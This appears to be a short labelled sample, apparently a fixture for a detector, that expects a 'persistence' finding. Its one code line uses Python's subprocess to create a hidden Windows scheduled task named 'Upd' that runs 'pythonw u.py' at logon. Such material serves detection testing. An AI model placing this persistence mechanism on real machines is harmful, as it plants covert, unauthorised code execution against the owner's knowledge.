# expect: 3 persistence
import subprocess
subprocess.run(['schtasks', '/create', '/tn', 'Upd', '/tr', 'pythonw u.py', '/sc', 'onlogon'])
